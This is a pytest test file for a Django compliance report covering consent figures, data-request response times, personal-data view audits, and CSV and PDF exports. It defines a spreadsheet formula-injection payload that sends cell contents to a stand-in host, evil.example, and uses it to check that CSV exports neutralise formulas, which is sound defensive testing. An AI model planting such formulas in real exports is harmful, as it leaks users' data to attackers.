"""The compliance report: exact figures for a hand-built fortnight, its page and its CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from cdp.models import AuditLog
from consent import ledger, services
from consent.models import LedgerVerification, Purpose
from insights.reports import compliance_report
from members.models import Brand
from privacy.models import DataSubjectRequest
from tests.factories import BrandFactory, StoreFactory, make_members

pytestmark = pytest.mark.django_db

REPORT = reverse("compliance-report")
# Six grouped queries on consent, three on data requests, two on the audit log, the latest
# verification and the latest checkpoint.
REPORT_QUERIES = 13
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def monday_two_weeks_ago() -> dt.date:
    today = timezone.localdate()
    return today - dt.timedelta(days=today.weekday() + 14)


def at(day: dt.date, hour: int = 10) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(day, dt.time(hour)))


def record(member, brand, when, *, action="granted", channel="sms", source_type="store", **kw):
    return services.record_consent(
        member=member,
        brand=brand,
        purpose="marketing",
        channel=channel,
        action=action,
        source_type=source_type,
        occurred_at=when,
        **kw,
    ).event


@pytest.fixture
def fortnight(tmall, marketing_purpose):
    """Two ISO weeks of a brand's consents, plus events outside the period and another
    brand's, which the report must leave out. Returns the period's first Monday."""
    brand = tmall.brand
    monday = monday_two_weeks_ago()
    week_a, week_b = monday + dt.timedelta(days=1), monday + dt.timedelta(days=8)
    m = make_members(tmall, 6)
    # Week A: three SMS grants (two at the store, one imported), an e-mail double opt-in
    # completed by m0 and one left pending by m3.
    record(m[0], brand, at(week_a), store=tmall, source_ref="lotus-tmall")
    record(m[1], brand, at(week_a), store=tmall, source_ref="lotus-tmall")
    record(m[2], brand, at(week_a), source_type="import_job", source_ref="job-1")
    record(m[0], brand, at(week_a, 11), channel="email", action="requested", source_type="privacy_center")
    record(m[0], brand, at(week_a, 12), channel="email", action="confirmed", source_type="double_opt_in")
    record(m[3], brand, at(week_a, 11), channel="email", action="requested", source_type="privacy_center")
    # Week B: two withdrawals and one more store grant.
    record(m[0], brand, at(week_b), action="withdrawn", source_type="unsubscribe_link", source_ref=HYPERLINK)
    record(m[1], brand, at(week_b), action="withdrawn", source_type="privacy_center")
    record(m[4], brand, at(week_b), store=tmall, source_ref="lotus-tmall")
    # Outside: before the period, after it, and another brand inside it.
    record(m[5], brand, at(monday - dt.timedelta(days=20)))
    record(m[5], brand, timezone.now(), action="withdrawn", source_type="privacy_center")
    peony = BrandFactory(code="peony", name="牡丹")
    Purpose.objects.create(brand=peony, code="marketing", name="营销", channels=["sms"], is_marketing=True)
    services.publish_notice(brand=peony, kind="privacy_policy", locale="zh-hans", title="隐私政策", body="…")
    record(m[0], peony, at(week_b), action="withdrawn", source_type="privacy_center")
    return monday


def period(monday):
    return monday, monday + dt.timedelta(days=13)  # Monday to Sunday, both included


def test_figures_per_purpose_channel_and_source(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    rows = {
        (r["purpose__code"], r["channel"], r["source_type"]): (
            r["granted"],
            r["withdrawn"],
            r["requested"],
            r["confirmed"],
        )
        for r in report["by_purpose"]
    }
    assert rows == {
        ("marketing", "sms", "store"): (3, 0, 0, 0),
        ("marketing", "sms", "import_job"): (1, 0, 0, 0),
        ("marketing", "sms", "unsubscribe_link"): (0, 1, 0, 0),
        ("marketing", "sms", "privacy_center"): (0, 1, 0, 0),
        ("marketing", "email", "privacy_center"): (0, 0, 2, 0),
        ("marketing", "email", "double_opt_in"): (0, 0, 0, 1),
    }
    assert report["totals"] == {
        "granted": 4,
        "withdrawn": 2,
        "requested": 2,
        "confirmed": 1,
        "total": 9,
        "pending": 1,
    }


def test_withdrawals_per_iso_week(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    first, second = fortnight.isocalendar(), (fortnight + dt.timedelta(days=7)).isocalendar()
    assert report["withdrawals_by_week"] == [
        {"week": f"{first.year}-W{first.week:02d}", "starts": fortnight, "withdrawn": 0},
        {"week": f"{second.year}-W{second.week:02d}", "starts": fortnight + dt.timedelta(days=7), "withdrawn": 2},
    ]


def test_pending_double_opt_ins_and_sources(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    [pending] = report["pending"]
    assert (pending["purpose__code"], pending["channel"], pending["count"]) == ("marketing", "email", 1)
    assert pending["expired"] == 1  # requested ≥ 8 days ago, confirmation links last 7
    sources = {(r["source_type"], r["source_ref"], r["store__code"]): r["total"] for r in report["sources"]}
    assert sources == {
        ("store", "lotus-tmall", "lotus-tmall"): 3,
        ("privacy_center", "", None): 3,
        ("import_job", "job-1", None): 1,
        ("unsubscribe_link", HYPERLINK, None): 1,
        ("double_opt_in", "", None): 1,
    }
    assert [r["total"] for r in report["sources"]] == [3, 3, 1, 1, 1]  # busiest first


def test_notice_versions_in_force(brand, marketing_purpose):
    services.publish_notice(
        brand=brand, kind="purpose_notice", purpose=marketing_purpose, locale="zh-hans", title="营销告知", body="v2"
    )
    services.publish_notice(brand=brand, kind="privacy_policy", locale="zh-hans", title="隐私政策", body="p1")
    [member] = make_members(StoreFactory(brand=brand, code="lotus-pos", platform="pos"), 1)
    services.record_consent(
        member=member, brand=brand, purpose="marketing", channel="sms", action="granted", source_type="store"
    )
    today = timezone.localdate()
    report = compliance_report(brand, today - dt.timedelta(days=29), today)
    # v1 was in force at the start of the period (it was replaced by v2 today).
    in_force = {(n["kind"], n["purpose__code"], n["version"], n["in_force_at_end"]) for n in report["notices"]}
    assert in_force == {
        ("purpose_notice", "marketing", 1, False),
        ("purpose_notice", "marketing", 2, True),
        ("privacy_policy", None, 1, True),
    }
    [used] = report["by_notice"]
    assert (used["notice__version"], used["in_force"], used["granted"]) == (2, True, 1)
    # A period that ended before anything was published has no notice in force.
    assert compliance_report(brand, today - dt.timedelta(days=9), today - dt.timedelta(days=1))["notices"] == []


def test_notice_versions_in_force_during_the_period(brand):
    """Versions replaced before the period started are out, versions published after it
    ended neither count nor end the one before them."""
    purpose = Purpose.objects.create(brand=brand, code="personalization", name="个性化推荐", channels=[])
    today = timezone.localdate()

    def publish(locale, days_ago, body):
        return services.publish_notice(
            brand=brand,
            kind="purpose_notice",
            purpose=purpose,
            locale=locale,
            title=f"个性化 {body}",
            body=body,
            published_at=at(today - dt.timedelta(days=days_ago)),
        )

    zh1, zh2 = publish("zh-hans", 60, "zh1"), publish("zh-hans", 20, "zh2")
    publish("en", 90, "en1")
    en2 = publish("en", 40, "en2")
    publish("zh-hans", -3, "zh3")  # published after the period
    report = compliance_report(brand, today - dt.timedelta(days=29), today)
    rows = {n["id"]: (n["version"], n["replaced_at"]) for n in report["notices"]}
    assert rows == {zh1.pk: (1, zh2.published_at), zh2.pk: (2, None), en2.pk: (2, None)}


def test_latest_verification_and_checkpoint(brand, fortnight):
    checkpoint = ledger.create_checkpoint()
    LedgerVerification.objects.create(ok=True, events_checked=12, checkpoint=checkpoint)
    report = compliance_report(brand, *period(fortnight))
    assert report["checkpoint"] == checkpoint
    assert report["verification"].events_checked == 12


@pytest.mark.parametrize("extra_weeks", [0, 20])
def test_report_cost_does_not_grow_with_events(
    brand, tmall, marketing_purpose, extra_weeks, django_assert_max_num_queries
):
    members = make_members(tmall, 5)
    monday = monday_two_weeks_ago()
    for week in range(extra_weeks):
        for member in members:
            record(member, brand, at(monday - dt.timedelta(days=7 * week)))
    with django_assert_max_num_queries(REPORT_QUERIES):
        compliance_report(brand, monday - dt.timedelta(days=7 * 20), monday + dt.timedelta(days=13))


# --- The admin page -------------------------------------------------------------------------------


def params(monday, **extra):
    since, until = period(monday)
    return {"since": since.isoformat(), "until": until.isoformat(), **extra}


def test_page_renders_for_a_privacy_officer(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk))
    assert response.status_code == 200
    assert response.context["report"]["totals"]["total"] == 9
    page = response.content.decode()
    assert "lotus-tmall" in page and "job-1" in page
    changelist = client.get(reverse("admin:consent_consentevent_changelist")).content.decode()
    assert REPORT in changelist  # linked from the ledger


def test_page_defaults_to_the_last_30_days(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    form = client.get(REPORT).context["form"]
    today = timezone.localdate()
    assert form.cleaned_data["brand"] == Brand.objects.order_by("name").first()
    assert (form.cleaned_data["since"], form.cleaned_data["until"]) == (today - dt.timedelta(days=29), today)


@pytest.mark.parametrize("who", ["marketer", "consent_officer"])
def test_staff_without_the_report_permission_get_403(client, request, who, brand):
    # The consent officer reads the ledger but was not given the report's permission.
    client.force_login(request.getfixturevalue(who))
    for query in ({}, {"format": "csv"}, {"format": "pdf"}):
        assert client.get(REPORT, query).status_code == 403
    assert not AuditLog.objects.filter(action="consent.report_downloaded").exists()


def test_a_reversed_period_is_a_form_error(client, compliance_officer, brand):
    client.force_login(compliance_officer)
    response = client.get(REPORT, {"brand": brand.pk, "since": "2025-03-10", "until": "2025-03-01"})
    assert response.status_code == 400
    assert response.context["report"] is None
    assert "until" in response.context["form"].errors


def read_csv(response) -> list[list[str]]:
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_csv_of_the_main_table(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    header, *rows = read_csv(client.get(REPORT, params(fortnight, brand=brand.pk, format="csv")))
    assert header == ["purpose", "channel", "source_type", "granted", "withdrawn", "requested", "confirmed", "total"]
    assert ["marketing", "sms", "store", "3", "0", "0", "0", "3"] in rows
    assert len(rows) == 6


def test_csv_neutralises_a_formula_in_a_source_reference(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="csv", table="sources"))
    header, *rows = read_csv(response)
    assert header == ["source_type", "source_ref", "store", "granted", "withdrawn", "requested", "confirmed", "total"]
    refs = [row[1] for row in rows]
    assert "'" + HYPERLINK in refs
    assert HYPERLINK not in refs


def test_unknown_csv_table_is_404(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    assert client.get(REPORT, params(fortnight, brand=brand.pk, format="csv", table="members")).status_code == 404


# --- Data requests and response times -------------------------------------------------------------


@pytest.fixture
def requests_fortnight(tmall):
    """Data requests around the fortnight (see each line), plus another brand's."""
    monday = monday_two_weeks_ago()
    m = make_members(tmall, 7, start=100)
    day = dt.timedelta(days=1)

    def dsr(member, kind, received, *, status="received", completed=None, due=None):
        return DataSubjectRequest.objects.create(
            member=member,
            kind=kind,
            status=status,
            received_at=received,
            due_at=due or received + 15 * day,
            completed_at=completed,
        )

    # In the period, answered in 2 days.
    dsr(m[0], "access", at(monday + day), status="completed", completed=at(monday + 3 * day))
    # Received before the period, answered in it after its due date: 22 days, late.
    dsr(
        m[1],
        "deletion",
        at(monday - 20 * day),
        status="completed",
        completed=at(monday + 2 * day),
        due=at(monday - 5 * day),
    )
    # Open at the end and overdue (due on day 6).
    dsr(m[2], "correction", at(monday + 5 * day), status="in_progress", due=at(monday + 6 * day))
    # Open at the end, not yet due.
    dsr(m[3], "access", at(monday + 10 * day))
    # Answered in 4 days.
    dsr(m[4], "access", at(monday + 4 * day), status="completed", completed=at(monday + 8 * day))
    # Received in the period, answered only after it: open at its end.
    dsr(m[5], "access", at(monday + 12 * day), status="completed", completed=timezone.now())
    # Refused two hours after it arrived.
    dsr(m[6], "withdraw_all", at(monday + 2 * day), status="rejected", completed=at(monday + 2 * day, 12))
    # Another brand's person.
    other = StoreFactory(brand=BrandFactory(code="peony", name="牡丹"), code="peony-jd", platform="jd")
    [stranger] = make_members(other, 1, start=200)
    dsr(stranger, "access", at(monday + day), status="completed", completed=at(monday + 9 * day))
    return monday


def test_data_requests_by_kind_with_response_times(brand, requests_fortnight):
    report = compliance_report(brand, *period(requests_fortnight))
    keys = ["received", "answered", "answered_late", "median_days", "max_days", "open_at_end", "overdue_at_end"]
    rows = {row["kind"]: [row[k] for k in keys] for row in report["requests"]["by_kind"]}
    assert rows == {
        "access": [4, 2, 0, 3.0, 4.0, 2, 0],
        "deletion": [0, 1, 1, 22.0, 22.0, 0, 0],
        "correction": [1, 0, 0, None, None, 1, 1],
        "withdraw_all": [1, 1, 0, 0.1, 0.1, 0, 0],
    }
    total = report["requests"]["total"]
    # Answer times 0.08, 2, 4 and 22 days: the median is (2 + 4) / 2.
    assert [total[k] for k in keys] == [6, 4, 1, 3.0, 22.0, 3, 1]
    access = report["requests"]["by_kind"][0]
    assert (access["status_completed"], access["status_received"], access["status_in_progress"]) == (3, 1, 0)
    assert total["status_rejected"] == 1


def test_no_data_requests_gives_zeros_not_errors(brand):
    today = timezone.localdate()
    total = compliance_report(brand, today - dt.timedelta(days=6), today)["requests"]["total"]
    assert (total["received"], total["answered"], total["median_days"], total["open_at_end"]) == (0, 0, None, 0)


# --- Who viewed full personal data ----------------------------------------------------------------


def viewed(user, when, *, member=None, members=(), view="member_list", count=None):
    if member is not None:
        row = AuditLog.objects.create(
            actor_type="user",
            actor_user=user,
            actor_label=user.username,
            action="pii.viewed",
            object_type="members.member",
            object_id=str(member.pk),
            object_repr=str(member),
            changes={"view": "member_change"} if count is None else {"view": "member_change", "count": count},
            ip_address="10.0.0.8",
        )
    else:
        row = AuditLog.objects.create(
            actor_type="user",
            actor_user=user,
            actor_label=user.username,
            action="pii.viewed",
            changes={"members": [m.pk for m in members], "count": len(members), "view": view},
        )
    AuditLog.objects.filter(pk=row.pk).update(created_at=when)
    return row


def test_pii_views_per_user_and_latest(brand, tmall, compliance_officer, marketer, superuser):
    monday = monday_two_weeks_ago()
    members = make_members(tmall, 5, start=300)
    day = dt.timedelta(days=1)
    viewed(compliance_officer, at(monday + day), member=members[0])
    viewed(compliance_officer, at(monday + 2 * day), members=members[:4])
    viewed(compliance_officer, at(monday + 3 * day), member=members[0], count=2)  # with a merged record
    viewed(superuser, at(monday + 4 * day), members=members)
    viewed(marketer, at(monday - day), member=members[1])  # before the period
    AuditLog.objects.create(actor_type="user", actor_label="x", action="member.changed")  # not a view
    pii = compliance_report(brand, *period(monday))["pii"]
    assert [(r["actor_label"], r["views"], r["members"]) for r in pii["by_user"]] == [
        ("consent-officer", 3, 7),
        ("root", 1, 5),
    ]
    assert (pii["views"], pii["members"]) == (4, 12)
    assert [(r["actor_label"], r["shown"], r["view"]) for r in pii["latest"]] == [
        ("root", 5, "member_list"),
        ("consent-officer", 2, "member_change"),
        ("consent-officer", 4, "member_list"),
        ("consent-officer", 1, "member_change"),
    ]


def test_latest_pii_views_are_capped(brand, tmall, compliance_officer, monkeypatch):
    from insights.reports import figures

    monkeypatch.setattr(figures, "PII_LATEST", 3)
    [member] = make_members(tmall, 1, start=400)
    today = timezone.localdate()
    for hour in range(5):
        viewed(compliance_officer, at(today, hour + 1), member=member)
    pii = compliance_report(brand, today, today)["pii"]
    assert pii["by_user"][0]["views"] == 5
    assert len(pii["latest"]) == 3
    assert pii["latest"][0]["created_at"] == at(today, 5)


# --- Downloads: CSV and PDF ------------------------------------------------------------------------


def test_csv_of_data_requests(client, compliance_officer, brand, requests_fortnight):
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(requests_fortnight, brand=brand.pk, format="csv", table="requests"))
    header, *rows = read_csv(response)
    assert header[:2] == ["kind", "received"] and "median_days" in header
    by_kind = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_kind["access"]["median_days"] == "3.0"
    assert by_kind["all"]["overdue_at_end"] == "1"
    assert by_kind["correction"]["median_days"] == ""


def test_csv_of_pii_views_neutralises_formulas(client, compliance_officer, brand, tmall):
    client.force_login(compliance_officer)
    [member] = make_members(tmall, 1, start=500)
    Member = type(member)
    Member.objects.filter(pk=member.pk).update(name=HYPERLINK)
    member.refresh_from_db()
    today = timezone.localdate()
    viewed(compliance_officer, at(today, 1), member=member)
    query = {"brand": brand.pk, "since": today.isoformat(), "until": today.isoformat(), "format": "csv"}
    header, *rows = read_csv(client.get(REPORT, {**query, "table": "pii_latest"}))
    assert header == ["when", "user", "view", "object_type", "object_id", "object", "member_records", "ip_address"]
    [row] = rows
    assert row[1] == "consent-officer" and row[4] == str(member.pk)
    assert row[5].startswith("'=") or not row[5].startswith("=")
    header, *rows = read_csv(client.get(REPORT, {**query, "table": "pii_by_user"}))
    assert rows == [["consent-officer", "1", "1", rows[0][3], rows[0][4]]]


def pdf_text(content: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_pdf_of_the_whole_report(client, compliance_officer, brand, fortnight, requests_fortnight):
    checkpoint = ledger.create_checkpoint()
    LedgerVerification.objects.create(ok=True, events_checked=12, checkpoint=checkpoint)
    viewed(compliance_officer, at(fortnight + dt.timedelta(days=1)), members=[])
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="compliance-report-lotus-')
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    since, until = period(fortnight)
    for expected in [
        "Compliance report",
        brand.code,
        f"{since:%Y-%m-%d} – {until:%Y-%m-%d}",
        "lotus-tmall",
        "job-1",
        "Data requests and response times",
        "22.0",  # the longest answer
        "consent-officer",
        checkpoint.merkle_root[:20],
        "Page 1 of",
    ]:
        assert expected in text, expected


def test_pdf_renders_chinese_in_chinese(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert brand.name in text  # 莲花美妆, set in the embedded font
    assert "合规报告" in text
    assert "Compliance report" not in text


# --- The PDF's font, words and labels ------------------------------------------------------------


@pytest.fixture
def report_font():
    """The font the PDF is set in; the tests that need it embedded skip, saying why, only
    on a machine without it (``make install`` brings it from npm)."""
    from insights.reports import fonts

    font = fonts.report_font()
    if font == fonts.FALLBACK:
        pytest.skip(
            "no TrueType font with Chinese and Cyrillic letters on this machine "
            f"(looked at {', '.join(str(c.path) for c in fonts.candidates())}); run `make install`"
        )
    return font


def pdf_fonts(content: bytes) -> dict[str, bool]:
    """Every font named in any page's resources, with whether its program is in the file.
    A composite (Type0) font's program hangs off its descendant; the 14 standard fonts
    have no descriptor at all, so they count as not embedded."""
    from pypdf import PdfReader

    found: dict[str, bool] = {}
    for page in PdfReader(io.BytesIO(content)).pages:
        for ref in page["/Resources"].get_object().get("/Font", {}).values():
            font = ref.get_object()
            parts = [d.get_object() for d in font.get("/DescendantFonts", [])] or [font]
            descriptors = [p["/FontDescriptor"].get_object() for p in parts if "/FontDescriptor" in p]
            found[str(font["/BaseFont"])] = bool(descriptors) and all(
                any(k in d for k in ("/FontFile", "/FontFile2", "/FontFile3")) for d in descriptors
            )
    return found


@pytest.mark.parametrize("language", ["en", "ru", "zh-hans", "zh-hant"])
@pytest.mark.usefixtures("report_font")
def test_every_font_of_the_pdf_is_embedded(client, compliance_officer, brand, fortnight, language):
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE=language)
    found = pdf_fonts(response.content)
    assert found, "the PDF names no font"
    assert all(found.values()), found


def test_the_middle_dot_has_a_glyph_and_comes_out(client, compliance_officer, brand, fortnight, report_font):
    from reportlab.pdfbase import pdfmetrics

    # The title, the subtitle and every footer join their parts with "·" (U+00B7).
    assert pdfmetrics.getFont(report_font).face.charToGlyph.get(0xB7, 0) != 0
    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE="en")
    text = pdf_text(response.content)
    assert f"{brand.name} · {brand.code}" in text
    assert f"Compliance report · {brand.name} ({brand.code})" in text


def test_russian_words_come_out_whole(client, compliance_officer, brand, fortnight, requests_fortnight, report_font):
    """Cyrillic set in the embedded font is spaced as words, and no word is cut at a line
    end: every heading word of every table is found whole in the PDF's text."""
    from django.utils import translation

    from insights.reports.tables import TABLES

    client.force_login(compliance_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE="ru")
    words = set(pdf_text(response.content).split())
    with translation.override("ru"):
        title = translation.gettext("Compliance report")
        headings = [str(c.label) for table in TABLES for c in table.page_columns() if c.label]
    assert title == "Отчёт о соблюдении требований"  # the catalogue has it; else this proves nothing
    for word in [*title.split(), *(w for heading in headings for w in heading.split())]:
        assert word in words, word


def test_the_pdf_shows_labels_not_internal_names(client, compliance_officer, brand, fortnight, marketing_purpose):
    """Purposes by name, languages by name, the admin page where data was seen by what it
    shows; no code of the kind ``snake_case`` reaches the reader."""
    import re

    services.publish_notice(
        brand=brand, kind="purpose_notice", purpose=marketing_purpose, locale="zh-hans", title="营销告知", body="v1"
    )
    viewed(compliance_officer, at(fortnight + dt.timedelta(days=1)), members=[], view="members_member_changelist")
    # (Never verified, the report names the command to run, which is no label.)
    LedgerVerification.objects.create(ok=True, events_checked=10, projection_ok=True)
    client.force_login(compliance_officer)
    query = {**params(fortnight, brand=brand.pk), "until": timezone.localdate().isoformat()}  # the notice: now
    text = pdf_text(client.get(REPORT, {**query, "format": "pdf"}, HTTP_ACCEPT_LANGUAGE="en").content)
    assert marketing_purpose.name in text
    assert "Simplified Chinese" in text and "zh-hans" not in text
    assert "Member: list" in text
    assert not re.findall(r"\b[a-z]+_[a-z_]+\b", text)
    # The CSV keeps the codes, for spreadsheets and for matching with other exports.
    header, *rows = read_csv(client.get(REPORT, {**query, "format": "csv", "table": "notices"}))
    assert {row[header.index("locale")] for row in rows} == {"zh-hans"}
    assert "marketing" in {row[header.index("purpose")] for row in rows}


def test_without_the_font_the_pdf_is_still_made_and_the_log_says_so(
    client, compliance_officer, brand, fortnight, monkeypatch, caplog, tmp_path
):
    from insights.reports import fonts

    monkeypatch.setattr(fonts, "candidates", lambda: [fonts.Candidate("Missing", tmp_path / "missing.ttf")])
    fonts.report_font.cache_clear()
    try:
        client.force_login(compliance_officer)
        with caplog.at_level("WARNING", logger="insights.reports.fonts"):
            response = client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"), HTTP_ACCEPT_LANGUAGE="en")
    finally:
        fonts.report_font.cache_clear()
    assert response.status_code == 200
    assert "Compliance report" in pdf_text(response.content)
    assert pdf_fonts(response.content) == {"/STSong-Light": False}
    [warning] = [r for r in caplog.records if r.name == "insights.reports.fonts"]
    assert "not embedded" in warning.getMessage() and str(tmp_path / "missing.ttf") in warning.getMessage()


def test_every_download_is_audited(client, compliance_officer, brand, fortnight):
    client.force_login(compliance_officer)
    client.get(REPORT, params(fortnight, brand=brand.pk))  # the page itself is not a download
    assert not AuditLog.objects.filter(action="consent.report_downloaded").exists()
    client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf"))
    read_csv(client.get(REPORT, params(fortnight, brand=brand.pk, format="csv", table="notices")))
    rows = AuditLog.objects.filter(action="consent.report_downloaded").order_by("pk")
    assert [(r.actor_label, r.object_id, r.changes["format"], r.changes["table"]) for r in rows] == [
        ("consent-officer", str(brand.pk), "pdf", ""),
        ("consent-officer", str(brand.pk), "csv", "notices"),
    ]
    assert rows[0].changes["since"] == fortnight.isoformat()


@pytest.mark.parametrize(
    "query",
    [
        {"since": "2025-02-30", "until": "2025-03-01"},
        {"since": "yesterday"},
        {"brand": "999999"},
        {"since": "2020-01-01", "until": "2025-01-01"},
    ],
)
def test_bad_input_is_a_form_error_not_a_file(client, compliance_officer, brand, query):
    client.force_login(compliance_officer)
    for fmt in ("", "pdf", "csv"):
        response = client.get(REPORT, {**query, "format": fmt})
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/html")
        assert response.context["form"].errors


def test_unknown_format_is_404(client, compliance_officer, brand):
    client.force_login(compliance_officer)
    assert client.get(REPORT, {"format": "xlsx"}).status_code == 404


def test_page_shows_every_section(client, compliance_officer, brand, fortnight, requests_fortnight):
    viewed(compliance_officer, at(fortnight + dt.timedelta(days=1)), members=[])
    client.force_login(compliance_officer)
    page = client.get(REPORT, params(fortnight, brand=brand.pk), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    for heading in [
        "Notice versions in force during the period",
        "By purpose, channel and source",
        "Withdrawals per week",
        "Data requests and response times",
        "Who viewed full personal data",
        "Ledger integrity",
        "format=pdf",
    ]:
        assert heading in page, heading


@pytest.mark.parametrize("extra", [0, 15])
def test_page_and_pdf_query_bounds(
    client, compliance_officer, brand, tmall, fortnight, extra, django_assert_max_num_queries
):
    members = make_members(tmall, extra or 1, start=600)
    for i in range(extra):
        viewed(compliance_officer, at(fortnight + dt.timedelta(days=1)), member=members[i])
        DataSubjectRequest.objects.create(member=members[i], kind="access", received_at=at(fortnight))
    client.force_login(compliance_officer)
    # The report's queries plus the session, the user, permissions and the brand choices.
    with django_assert_max_num_queries(REPORT_QUERIES + 8):
        assert client.get(REPORT, params(fortnight, brand=brand.pk)).status_code == 200
    with django_assert_max_num_queries(REPORT_QUERIES + 8):
        assert client.get(REPORT, params(fortnight, brand=brand.pk, format="pdf")).status_code == 200


def test_a_broken_ledger_shows_on_the_page_and_in_the_pdf(client, compliance_officer, brand, fortnight):
    LedgerVerification.objects.create(ok=False, events_checked=3, first_error="event 7: hash does not match")
    client.force_login(compliance_officer)
    query = params(fortnight, brand=brand.pk)
    page = client.get(REPORT, query, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "BROKEN" in page and "event 7: hash does not match" in page
    text = pdf_text(client.get(REPORT, {**query, "format": "pdf"}, HTTP_ACCEPT_LANGUAGE="en").content)
    assert "BROKEN: event 7: hash does not match" in text
    assert "never verified" not in text


def test_first_visit_without_any_brand_is_a_page(client, compliance_officer):
    client.force_login(compliance_officer)
    response = client.get(REPORT)
    assert response.status_code == 200
    assert response.context["report"] is None


def test_a_request_answered_the_instant_it_came_takes_0_0_days_not_minus_0_0():
    import datetime as dt

    from insights.reports import figures

    assert str(figures._days(dt.timedelta(microseconds=-1))) == "0.0"
    assert str(figures._days(dt.timedelta(hours=36))) == "1.5"
